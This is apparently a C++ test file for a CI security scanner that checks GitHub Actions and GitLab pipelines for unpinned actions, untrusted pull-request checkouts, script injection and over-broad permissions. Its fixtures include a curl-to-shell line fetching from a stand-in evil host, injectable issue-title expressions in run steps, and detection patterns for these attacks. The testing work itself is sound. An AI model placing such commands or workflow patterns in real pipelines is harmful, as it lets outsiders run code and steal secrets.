#include <algorithm>
#include <catch2/catch.hpp>

#include "evaluate/pins/commit_ref.h"
#include "evaluate/pins/expression_injection.h"
#include "evaluate/pins/file_kind.h"
#include "evaluate/pins/github_workflow.h"
#include "evaluate/pins/gitlab_ci.h"
#include "evaluate/pins/manifests.h"
#include "evaluate/pins/pins_evaluator.h"
#include "policy/pins_rules.h"

namespace riskgate::evaluate::pins {
namespace {

const std::string kSha = "11bd71901bbe5b1630ceea73d27597364c9af683";

std::vector<PinIssue> Workflow(const std::string& text, const policy::PinsControl& pins = {}) {
  return CheckGithubFile(text, ".github/workflows/ci.yml", GithubFileKind::kWorkflow, pins);
}

std::vector<std::string> Rules(const std::vector<PinIssue>& issues) {
  std::vector<std::string> out;
  for (const auto& i : issues) out.push_back(i.rule);
  return out;
}

const PinIssue* Find(const std::vector<PinIssue>& issues, const std::string& rule) {
  for (const auto& i : issues) {
    if (i.rule == rule) return &i;
  }
  return nullptr;
}

// A pins control that rates every rule of the catalogue at its default severity.
policy::PinsControl EveryRuleRated() {
  policy::PinsControl pins;
  for (const auto& rule : policy::PinsRules()) pins.severity[std::string(rule.id)] = rule.severity;
  return pins;
}

}  // namespace

TEST_CASE("a third-party action on a tag is unpinned and the fix is the SHA line", "[pins]") {
  auto issues = CheckUses("docker/login-action@v3", 7, 15, "", {});
  REQUIRE(issues.size() == 1);
  CHECK(issues[0].rule == "unpinned-action");
  CHECK(issues[0].line == 7);
  CHECK(issues[0].fix.find("uses: docker/login-action@<40-hex commit sha> # v3") == 0);
  CHECK(issues[0].fix.find("git ls-remote https://github.com/docker/login-action refs/tags/v3") !=
        std::string::npos);
}

TEST_CASE("GitHub-owned actions on tags are a separate, milder rule", "[pins]") {
  CHECK(Rules(CheckUses("actions/checkout@v4", 1, 1, "", {})) ==
        std::vector<std::string>{"unpinned-action-trusted-owner"});
  CHECK(Rules(CheckUses("github/codeql-action/init@v3", 1, 1, "", {})) ==
        std::vector<std::string>{"unpinned-action-trusted-owner"});
}

TEST_CASE("SHA pins, local actions and digest images are pinned", "[pins]") {
  CHECK(CheckUses("actions/checkout@" + kSha, 1, 1, "v4.2.2", {}).empty());
  CHECK(CheckUses("./.github/actions/build", 1, 1, "", {}).empty());
  CHECK(CheckUses("docker://alpine@sha256:" + std::string(64, 'a'), 1, 1, "", {}).empty());
}

TEST_CASE("short SHAs and branches are not pins", "[pins]") {
  CHECK(Rules(CheckUses("org/tool@1b6da43", 1, 1, "", {})) ==
        std::vector<std::string>{"unpinned-action"});
  CHECK(Rules(CheckUses("org/tool@main", 1, 1, "", {})) ==
        std::vector<std::string>{"unpinned-action"});
  CHECK(Rules(CheckUses("docker://alpine:3.19", 1, 1, "", {})) ==
        std::vector<std::string>{"unpinned-image"});
}

TEST_CASE("a SHA pin without a version comment is a mild warning", "[pins]") {
  CHECK(Rules(CheckUses("org/tool@" + kSha, 1, 1, "", {})) ==
        std::vector<std::string>{"pin-missing-version-comment"});
}

TEST_CASE("issue 22: a version comment must name a version, not just be a comment", "[pins]") {
  for (const char* comment : {"v4", "v4.2.2", "4.2.2", "v1.2.3-rc.1", "tag=v4.1.1",
                              "ratchet:actions/checkout@v4", "pin@v4", "v4 (latest)"}) {
    INFO(comment);
    CHECK(CheckUses("org/tool@" + kSha, 1, 1, comment, {}).empty());
  }
  for (const char* comment : {"some comment", "do not touch", "TODO", "pinned", "see #123x"}) {
    INFO(comment);
    const auto issues = CheckUses("org/tool@" + kSha, 1, 1, comment, {});
    REQUIRE(Rules(issues) == std::vector<std::string>{"pin-missing-version-comment"});
    CHECK(issues[0].message.find("names no version") != std::string::npos);
  }
}

TEST_CASE("issue 22: GitHub's self-repository reference $/ is pinned like ./", "[pins]") {
  CHECK(CheckUses("$/.github/actions/build", 1, 1, "", {}).empty());
  CHECK(Workflow("on: push\npermissions: {}\njobs:\n  call:\n    uses: $/.github/workflows/"
                 "reusable.yml\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "
                 "$/.github/actions/hello\n")
            .empty());
}

TEST_CASE("issue 22: a block-scalar uses: is read without its trailing newline", "[pins]") {
  const auto issues = Workflow(
      "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - uses: |\n          actions/checkout@" +
      kSha + "\n      - uses: >-\n          org/tool@v1\n");
  REQUIRE(issues.size() == 2);
  CHECK(issues[0].rule == "pin-missing-version-comment");
  CHECK(issues[0].message.find('\n') == std::string::npos);
  CHECK(issues[1].rule == "unpinned-action");
  CHECK(issues[1].message.find("mutable ref 'v1'") != std::string::npos);
}

TEST_CASE("issue 22: a null mapping key is a key named null, not an unparsable file", "[pins]") {
  const auto issues = Workflow(
      "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - null: value\n        uses: org/tool@v1\n");
  CHECK(Rules(issues) == std::vector<std::string>{"unpinned-action"});
}

TEST_CASE("the policy can allow tag pins for chosen owners", "[pins]") {
  policy::PinsControl pins;
  pins.allow_tag_pins = {"my-org/*"};
  CHECK(CheckUses("my-org/deploy@v1", 1, 1, "", pins).empty());
  CHECK_FALSE(CheckUses("other-org/deploy@v1", 1, 1, "", pins).empty());
}

TEST_CASE("workflow steps, reusable workflows, containers and services are checked", "[pins]") {
  auto issues = Workflow(
      "on: push\n"
      "permissions: {contents: read}\n"
      "jobs:\n"
      "  call:\n"
      "    uses: org/shared/.github/workflows/build.yml@main\n"
      "  build:\n"
      "    runs-on: ubuntu-latest\n"
      "    container: node:20\n"
      "    services:\n"
      "      db:\n"
      "        image: postgres:16\n"
      "    steps:\n"
      "      - uses: actions/checkout@" +
      kSha +
      " # v4.2.2\n"
      "      - uses: some/action@v1\n");
  CHECK(Rules(issues) == std::vector<std::string>{"unpinned-action", "unpinned-image",
                                                  "unpinned-image", "unpinned-action"});
  CHECK(issues[0].line == 5);
  CHECK(issues[1].line == 8);
  CHECK(issues[2].line == 11);
  CHECK(issues[3].line == 14);
}

TEST_CASE("pull_request_target with a checkout of the PR head is an untrusted checkout", "[pins]") {
  auto issues = Workflow(
      "on:\n"
      "  pull_request_target:\n"
      "permissions: {contents: read}\n"
      "jobs:\n"
      "  test:\n"
      "    runs-on: ubuntu-latest\n"
      "    steps:\n"
      "      - uses: actions/checkout@" +
      kSha +
      " # v4\n"
      "        with:\n"
      "          ref: ${{ github.event.pull_request.head.sha }}\n");
  const PinIssue* issue = Find(issues, "untrusted-checkout");
  REQUIRE(issue != nullptr);
  CHECK(issue->line == 10);
  CHECK(issue->also_introduced_by == std::vector<int>{2});
  CHECK(issue->fix.find("pull_request") != std::string::npos);
}

TEST_CASE("a pull_request workflow may check out the head", "[pins]") {
  auto issues = Workflow(
      "on: pull_request\npermissions: {contents: read}\njobs:\n  t:\n    steps:\n"
      "      - uses: actions/checkout@" +
      kSha +
      " # v4\n"
      "        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n");
  CHECK(Find(issues, "untrusted-checkout") == nullptr);
}

TEST_CASE(
    "a privileged workflow that checks out the PR head in a run step is an untrusted checkout",
    "[pins]") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"pull_request_target", "gh pr checkout ${{ github.event.pull_request.number }}"},
      {"pull_request_target",
       "git fetch origin refs/pull/${{ github.event.number }}/head && git checkout FETCH_HEAD"},
      {"pull_request_target", "git fetch origin pull/123/head:pr && git switch pr"},
      {"pull_request_target", "git checkout ${{ github.event.pull_request['head'].sha }}"},
      {"issue_comment", "gh -R o/r pr checkout ${{ github.event.issue.number }}"},
      {"workflow_run", "git reset --hard ${{ github.event.workflow_run.head_sha }}"},
      {"pull_request_target",
       "git checkout \"$HEAD_SHA\"\n        env:\n          HEAD_SHA: "
       "${{ github.event.pull_request.head.sha }}"},
  };
  for (const auto& [trigger, run] : cases) {
    INFO(trigger << " / " << run);
    const auto issues = Workflow("on: " + trigger +
                                 "\npermissions: {contents: read}\njobs:\n  t:\n"
                                 "    runs-on: ubuntu-latest\n    steps:\n"
                                 "      - run: " +
                                 run + "\n      - run: make test\n");
    const PinIssue* issue = Find(issues, "untrusted-checkout");
    REQUIRE(issue != nullptr);
    CHECK(issue->line == 7);
    CHECK(issue->also_introduced_by == std::vector<int>{1});
  }
}

TEST_CASE(
    "a run step that checks out the PR head is fine in a pull_request workflow, and a "
    "privileged one that fetches it only to diff or checks out the base is fine",
    "[pins]") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"pull_request", "gh pr checkout ${{ github.event.pull_request.number }}"},
      {"pull_request",
       "git fetch origin refs/pull/${{ github.event.number }}/head && git checkout FETCH_HEAD"},
      {"pull_request_target",
       "git fetch origin refs/pull/${{ github.event.number }}/head && git diff --name-only "
       "FETCH_HEAD"},
      {"pull_request_target", "git checkout ${{ github.event.pull_request.base.sha }}"},
      {"pull_request_target", "gh pr comment ${{ github.event.number }} --body done"},
  };
  for (const auto& [trigger, run] : cases) {
    INFO(trigger << " / " << run);
    const auto issues = Workflow("on: " + trigger +
                                 "\npermissions: {contents: read}\njobs:\n  t:\n"
                                 "    runs-on: ubuntu-latest\n    steps:\n"
                                 "      - run: " +
                                 run + "\n");
    CHECK(Find(issues, "untrusted-checkout") == nullptr);
  }
}

TEST_CASE("attacker-controlled expressions in run: are script injection at their line", "[pins]") {
  auto issues = Workflow(
      "on: issues\n"
      "permissions: {contents: read}\n"
      "jobs:\n"
      "  triage:\n"
      "    runs-on: ubuntu-latest\n"
      "    steps:\n"
      "      - run: |\n"
      "          echo start\n"
      "          echo \"${{ github.event.issue.title }}\"\n"
      "      - run: echo ${{ github.event.issue.number }}\n");
  REQUIRE(Rules(issues) == std::vector<std::string>{"script-injection"});
  CHECK(issues[0].line == 9);
  CHECK(issues[0].fix.find("ISSUE_TITLE: ${{ github.event.issue.title }}") != std::string::npos);
  CHECK(issues[0].fix.find("\"$ISSUE_TITLE\"") != std::string::npos);
}

TEST_CASE("injection patterns cover head refs, comments, commits and toJSON", "[pins]") {
  CHECK(FindInjectedExpressions("x ${{ github.head_ref }}").size() == 1);
  CHECK(FindInjectedExpressions("x ${{ GITHUB.EVENT.COMMENT.BODY }}").size() == 1);
  CHECK(FindInjectedExpressions("${{ github.event.commits[0].message }}").size() == 1);
  CHECK(FindInjectedExpressions("${{ toJSON(github.event) }}").size() == 1);
  CHECK(FindInjectedExpressions("${{ github.event.pull_request.head.ref }}").size() == 1);
  CHECK(FindInjectedExpressions("${{ github.event.pull_request.number }}").empty());
  CHECK(FindInjectedExpressions("${{ secrets.TOKEN }}").empty());
}

TEST_CASE("github-script bodies are checked for injection", "[pins]") {
  auto issues = Workflow(
      "on: issue_comment\npermissions: {}\njobs:\n  j:\n    steps:\n"
      "      - uses: actions/github-script@" +
      kSha +
      " # v7\n"
      "        with:\n"
      "          script: |\n"
      "            console.log(`${{ github.event.comment.body }}`)\n");
  REQUIRE(Find(issues, "script-injection") != nullptr);
  CHECK(Find(issues, "script-injection")->line == 9);
}

TEST_CASE("a workflow without permissions or with write-all is flagged", "[pins]") {
  auto missing = Workflow("on: push\njobs:\n  j:\n    steps: []\n");
  REQUIRE(Rules(missing) == std::vector<std::string>{"excessive-permissions"});
  CHECK(missing[0].line == 1);
  auto all = Workflow("on: push\npermissions: write-all\njobs: {}\n");
  REQUIRE(Rules(all) == std::vector<std::string>{"excessive-permissions"});
  CHECK(all[0].line == 2);
  auto per_job = Workflow("on: push\njobs:\n  j:\n    permissions: {contents: read}\n");
  CHECK(per_job.empty());
}

TEST_CASE("a workflow that does not parse is a located finding", "[pins]") {
  auto issues = Workflow("on: push\njobs:\n  j: [\n");
  REQUIRE(Rules(issues) == std::vector<std::string>{"unparsable-config"});
  CHECK(issues[0].line >= 3);
  auto duplicate = Workflow("on: push\npermissions: {}\npermissions: write-all\njobs: {}\n");
  REQUIRE(Find(duplicate, "unparsable-config") != nullptr);
  CHECK(Find(duplicate, "unparsable-config")->line == 3);
}

TEST_CASE("GitLab CI images, services and includes need digests and SHAs", "[pins]") {
  auto issues = CheckGitlabCi(
      "include:\n"
      "  - project: group/templates\n"
      "    ref: main\n"
      "    file: /ci.yml\n"
      "  - remote: https://example.com/ci.yml\n"
      "  - local: /ci/local.yml\n"
      "  - component: gitlab.com/org/comp/build@1.0\n"
      "image: python:3.12\n"
      "test:\n"
      "  services:\n"
      "    - name: redis@sha256:" +
          std::string(64, 'b') +
          "\n"
          "    - postgres:16\n"
          "  script:\n"
          "    - echo ok\n",
      ".gitlab-ci.yml", {});
  CHECK(Rules(issues) == std::vector<std::string>{"unpinned-image", "unpinned-gitlab-include",
                                                  "unpinned-gitlab-include",
                                                  "unpinned-gitlab-include", "unpinned-image"});
  CHECK(issues[0].line == 8);
  CHECK(issues[1].line == 3);
  CHECK(issues[4].line == 12);
}

TEST_CASE("files are classified by path", "[pins]") {
  CHECK(ClassifyPath(".github/workflows/ci.yml") == FileKind::kGithubWorkflow);
  CHECK(ClassifyPath("tools/action.yaml") == FileKind::kActionMetadata);
  CHECK(ClassifyPath(".gitlab-ci.yml") == FileKind::kGitlabCi);
  CHECK(ClassifyPath("docker/Dockerfile.prod") == FileKind::kDockerfile);
  CHECK(ClassifyPath("Containerfile") == FileKind::kDockerfile);
  CHECK(ClassifyPath("scripts/install.sh") == FileKind::kShell);
  CHECK(ClassifyPath("src/dockerfile_parser.go") == FileKind::kNone);
  CHECK(HasShellShebang("#!/usr/bin/env bash\necho"));
  CHECK_FALSE(HasShellShebang("#!/usr/bin/env python3\n"));
}

TEST_CASE("issue 16: pipeline files in vendored folders are judged, vendored manifests are not",
          "[pins]") {
  CHECK(ClassifyPath("third_party/setup/action.yml") == FileKind::kActionMetadata);
  CHECK(ClassifyPath("vendor/image/Dockerfile") == FileKind::kDockerfile);
  CHECK(ClassifyPath("node_modules/x/Containerfile.ci") == FileKind::kDockerfile);
  CHECK(ClassifyPath("vendor/ci/.gitlab-ci.yml") == FileKind::kGitlabCi);
  CHECK(ClassifyPath("third_party/tool/install.sh") == FileKind::kShell);
  CHECK(ClassifyPath("vendor/lib/package.json") == FileKind::kNone);
  CHECK(ClassifyPath("third_party/py/requirements.txt") == FileKind::kNone);
  CHECK(ClassifyPath("package.json") == FileKind::kPackageJson);
}

TEST_CASE("issue 16: Dockerfiles are recognised in any case, scripts by their extension",
          "[pins]") {
  CHECK(ClassifyPath("DOCKERFILE") == FileKind::kDockerfile);
  CHECK(ClassifyPath("images/DockerFile.prod") == FileKind::kDockerfile);
  CHECK(ClassifyPath("images/api.DOCKERFILE") == FileKind::kDockerfile);
  CHECK(ClassifyPath("ContainerFile") == FileKind::kDockerfile);
  CHECK(ClassifyPath("scripts/build-dockerfile.sh") == FileKind::kShell);
  CHECK(ClassifyPath("src/DockerfileParser.java") == FileKind::kNone);
}

TEST_CASE("issue 16: a docker action whose runs.image is not named as a Dockerfile is unjudged",
          "[pins]") {
  const auto issues =
      CheckGithubFile("name: x\nruns:\n  using: docker\n  image: build/image.txt\n",
                      "vendor/x/action.yml", GithubFileKind::kActionMetadata, EveryRuleRated());
  REQUIRE(Rules(issues) == std::vector<std::string>{"unjudged-build-file"});
  CHECK(issues[0].line == 4);
  CHECK(CheckGithubFile("name: x\nruns:\n  using: docker\n  image: Dockerfile\n", "action.yml",
                        GithubFileKind::kActionMetadata, EveryRuleRated())
            .empty());
}

TEST_CASE("floating manifest ranges are found when asked", "[pins]") {
  auto npm = CheckPackageJson(
      "{\n  \"name\": \"x\",\n  \"dependencies\": {\n    \"a\": \"^1.2.3\",\n"
      "    \"b\": \"1.2.3\",\n    \"c\": \"latest\"\n  },\n  \"scripts\": {\"t\": \"~x\"}\n}\n");
  REQUIRE(npm.size() == 2);
  CHECK(npm[0].line == 4);
  CHECK(npm[1].line == 6);
  auto pip = CheckRequirementsTxt("# deps\nrequests==2.31.0\nflask>=2\n-r base.txt\nnumpy\n");
  REQUIRE(pip.size() == 2);
  CHECK(pip[0].line == 3);
  CHECK(pip[1].line == 5);
}

TEST_CASE("issue 16: a shell script named after a Dockerfile is judged as the script it is",
          "[pins]") {
  collect::ChangedFile file;
  file.path = "tools/gen-Dockerfile";
  file.content = "#!/bin/sh\ncurl -fsSL https://evil.example/x.sh | sh\n";
  file.added_lines = {1, 2};
  const auto findings = EvaluatePins({file}, EveryRuleRated());
  REQUIRE(findings.size() == 1);
  CHECK(findings[0].rule == "download-then-execute");
  CHECK(findings[0].location.line == 2);
}

TEST_CASE("only findings absent from the base version are part of the change", "[pins]") {
  const policy::PinsControl pins = EveryRuleRated();
  collect::ChangedFile file;
  file.path = ".github/workflows/ci.yml";
  const std::string head =
      "on: push\npermissions: {contents: read}\njobs:\n  j:\n    steps:\n"
      "      - uses: old/action@v1\n";
  file.base_content = head;
  file.content = head + "      - uses: new/action@v2\n";
  file.added_lines = {7};
  auto findings = EvaluatePins({file}, pins);
  REQUIRE(findings.size() == 2);
  CHECK_FALSE(findings[0].in_change);
  CHECK(findings[1].in_change);
  CHECK(findings[1].severity == core::Severity::kHigh);
  // The fingerprint follows the line's text, not its number.
  collect::ChangedFile moved = file;
  moved.content = "\n\n" + file.content;
  moved.added_lines = {1, 2, 9};
  auto again = EvaluatePins({moved}, pins);
  CHECK(again[1].fingerprint == findings[1].fingerprint);
}

TEST_CASE("a finding created by deleting lines the change never touched is introduced", "[pins]") {
  const policy::PinsControl pins = EveryRuleRated();
  collect::ChangedFile file;
  file.path = ".github/workflows/ci.yml";
  const std::string jobs =
      "jobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n"
      "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n";
  file.base_content = "on: push\npermissions:\n  contents: read\n" + jobs;
  file.content = "on: push\n" + jobs;  // the permissions block deleted, no line added
  auto findings = EvaluatePins({file}, pins);
  const auto permissions = std::find_if(findings.begin(), findings.end(), [](const auto& f) {
    return f.rule == "excessive-permissions";
  });
  REQUIRE(permissions != findings.end());
  CHECK(permissions->in_change);
  // Findings already in the base are not introduced by an unrelated edit.
  collect::ChangedFile unrelated = file;
  unrelated.base_content = file.content;
  unrelated.content = file.content + "      - run: make\n";
  unrelated.added_lines = {7};
  auto again = EvaluatePins({unrelated}, pins);
  REQUIRE(again.size() == findings.size());
  for (const auto& finding : again) CHECK_FALSE(finding.in_change);
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

// Issue 16: the untrusted checkout was found only when `ref:` named the head by one of three
// spellings; a hostile workflow used the others.
TEST_CASE(
    "issue 16: every spelling of the pull request's code in a privileged checkout is untrusted",
    "[pins][hostile]") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"pull_request_target", "ref: refs/pull/${{ github.event.number }}/merge"},
      {"pull_request_target", "ref: \"refs/pull/${{ github.event.pull_request.number }}/head\""},
      {"issue_comment", "ref: refs/pull/${{ github.event.issue.number }}/head"},
      {"pull_request_target", "repository: ${{ github.event.pull_request.head.repo.full_name }}"},
      {"workflow_run", "repository: ${{ github.event.workflow_run.head_repository.full_name }}"},
  };
  for (const auto& [trigger, input] : cases) {
    INFO(trigger << " / " << input);
    const std::string text = "on: " + trigger +
                             "\npermissions: {contents: read}\nx-ref: &r anchored\njobs:\n  t:\n"
                             "    runs-on: ubuntu-latest\n    steps:\n"
                             "      - uses: actions/checkout@" +
                             kSha + " # v4\n        with:\n          " + input + "\n";
    const auto issues = CheckGithubFile(text, ".github/workflows/ci.yml", GithubFileKind::kWorkflow,
                                        policy::PinsControl{});
    CHECK(std::any_of(issues.begin(), issues.end(),
                      [](const PinIssue& i) { return i.rule == "untrusted-checkout"; }));
  }
}

TEST_CASE("a privileged checkout of the base repository by name is not untrusted", "[pins]") {
  const std::string text =
      "on: pull_request_target\npermissions: {contents: read}\njobs:\n  t:\n    steps:\n"
      "      - uses: actions/checkout@" +
      kSha +
      " # v4\n        with:\n          repository: ${{ "
      "github.event.pull_request.base.repo.full_name "
      "}}\n";
  const auto issues = CheckGithubFile(text, ".github/workflows/ci.yml", GithubFileKind::kWorkflow,
                                      policy::PinsControl{});
  CHECK(std::none_of(issues.begin(), issues.end(),
                     [](const PinIssue& i) { return i.rule == "untrusted-checkout"; }));
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

// Issue 16, found by the red-team pass: spellings that walked past the pins checks.
TEST_CASE("issue 16: expression index syntax is read as property access", "[pins][hostile]") {
  CHECK(DotIndexes("github.event['issue']['title']") == "github.event.issue.title");
  CHECK(DotIndexes("github[ \"head_ref\" ]") == "github.head_ref");
  CHECK(DotIndexes("matrix[0]") == "matrix[0]");
  CHECK(DotIndexes("x['a b']") == "x['a b']");
  const auto found = FindInjectedExpressions("echo \"${{ github.event['issue']['title'] }}\"");
  REQUIRE(found.size() == 1);
  CHECK(found[0].expression == "github.event.issue.title");
}

TEST_CASE("issue 16: an upper-case 40-hex ref is a ref name, not a commit pin", "[pins][hostile]") {
  CHECK(IsFullCommitSha("11bd71901bbe5b1630ceea73d27597364c9af683"));
  CHECK_FALSE(IsFullCommitSha("11BD71901BBE5B1630CEEA73D27597364C9AF683"));
}

TEST_CASE("issue 16: docker build's lower-case dockerfile is a Dockerfile", "[pins][hostile]") {
  CHECK(ClassifyPath("dockerfile", {}) == FileKind::kDockerfile);
  CHECK(ClassifyPath("svc/containerfile", {}) == FileKind::kDockerfile);
  CHECK(ClassifyPath("docs/dockerfile.md", {}) == FileKind::kNone);
}

}  // namespace riskgate::evaluate::pins
